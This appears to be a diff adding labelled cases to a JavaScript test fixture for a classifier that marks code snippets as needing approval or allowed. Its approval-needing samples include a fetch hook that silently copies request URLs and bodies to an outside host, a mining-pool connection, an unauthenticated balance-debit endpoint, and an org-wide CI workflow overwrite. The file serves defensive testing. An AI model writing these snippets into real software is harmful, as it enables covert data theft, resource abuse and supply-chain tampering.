@@ -141,4 +141,67 @@ export const INTENTS: JavaScriptCases = {
       "const { Logger } = require('@nestjs/common'); class S { log = new Logger('s'); create(dto) { this.log.log(`new ${dto.id}`); } }",
     ],
   ],
+  "what stands in the place of a function that sends": [
+    [
+      "REQUIRES_APPROVAL",
+      "net.send file.private",
+      "const real = globalThis.fetch; globalThis.fetch = async (input, init) => { real('https://stats.example.net/c', { method: 'POST', body: JSON.stringify({ to: String(input), sent: init?.body }) }); return real(input, init); };",
+    ],
+    [
+      "ALLOW",
+      "",
+      "const real = globalThis.fetch; globalThis.fetch = async (input, init) => { const from = performance.now(); const answer = await real(input, { ...init, headers: { ...init?.headers, 'x-trace': '1' } }); real('https://stats.example.net/c', { method: 'POST', body: JSON.stringify({ status: answer.status, ms: performance.now() - from }) }); return answer; };",
+    ],
+    [
+      "ALLOW",
+      "",
+      "const http = require('http'); const real = http.request; http.request = function (...args) { console.log('request'); return real.apply(this, args); };",
+    ],
+  ],
+  "what is mined": [
+    [
+      "REQUIRES_APPROVAL",
+      "net.send",
+      "const net = require('net'); const s = net.connect(4444, 'pool.example.net'); const say = (method, params) => s.write(JSON.stringify({ id: 1, method, params }) + '\\n'); say('mining.authorize', ['w', 'x']);",
+    ],
+    [
+      "ALLOW",
+      "net.send",
+      "const net = require('net'); const s = net.connect(4444, 'rpc.example.net'); const say = (method, params) => s.write(JSON.stringify({ id: 1, method, params }) + '\\n'); say('session.authorize', ['w', 'x']);",
+    ],
+  ],
+  "balances that a request changes": [
+    [
+      "REQUIRES_APPROVAL",
+      "db.write",
+      "const app = require('express')(); const { Pool } = require('pg'); const db = new Pool();\napp.post('/pay', async (req, res) => { const { from, sum } = req.body; await db.query('UPDATE wallets SET balance = balance - $1 WHERE id = $2', [sum, from]); res.end(); });",
+    ],
+    [
+      "ALLOW",
+      "db.write",
+      "const app = require('express')(); const { Pool } = require('pg'); const db = new Pool(); const { requireLogin } = require('./login');\napp.post('/pay', requireLogin, async (req, res) => { const { from, sum } = req.body; await db.query('UPDATE wallets SET balance = balance - $1 WHERE id = $2', [sum, from]); res.end(); });",
+    ],
+    [
+      "ALLOW",
+      "db.write",
+      "const app = require('express')(); const { Pool } = require('pg'); const db = new Pool();\napp.post('/cart', async (req, res) => { const { id, n } = req.body; await db.query('UPDATE carts SET visits = visits + $1 WHERE id = $2', [n, id]); res.end(); });",
+    ],
+  ],
+  "workflows of everybody": [
+    [
+      "REQUIRES_APPROVAL",
+      "infra.change",
+      "const { Octokit } = require('@octokit/rest'); const gh = new Octokit({ auth: process.env.T });\n(async () => { const { data } = await gh.repos.listForOrg({ org: 'acme' }); for (const r of data) await gh.repos.createOrUpdateFileContents({ owner: 'acme', repo: r.name, path: '.github/workflows/ci.yml', message: 'ci', content: 'b246IHB1c2g=' }); })();",
+    ],
+    [
+      "ALLOW",
+      "",
+      "const { Octokit } = require('@octokit/rest'); const gh = new Octokit({ auth: process.env.T });\n(async () => { await gh.repos.createOrUpdateFileContents({ owner: 'acme', repo: 'site', path: '.github/workflows/ci.yml', message: 'ci', content: 'b246IHB1c2g=' }); })();",
+    ],
+    [
+      "ALLOW",
+      "",
+      "const { Octokit } = require('@octokit/rest'); const gh = new Octokit({ auth: process.env.T });\n(async () => { const { data } = await gh.repos.listForOrg({ org: 'acme' }); for (const r of data) await gh.repos.createOrUpdateFileContents({ owner: 'acme', repo: r.name, path: 'LICENSE', message: 'licence', content: 'TUlU' }); })();",
+    ],
+  ],
 };
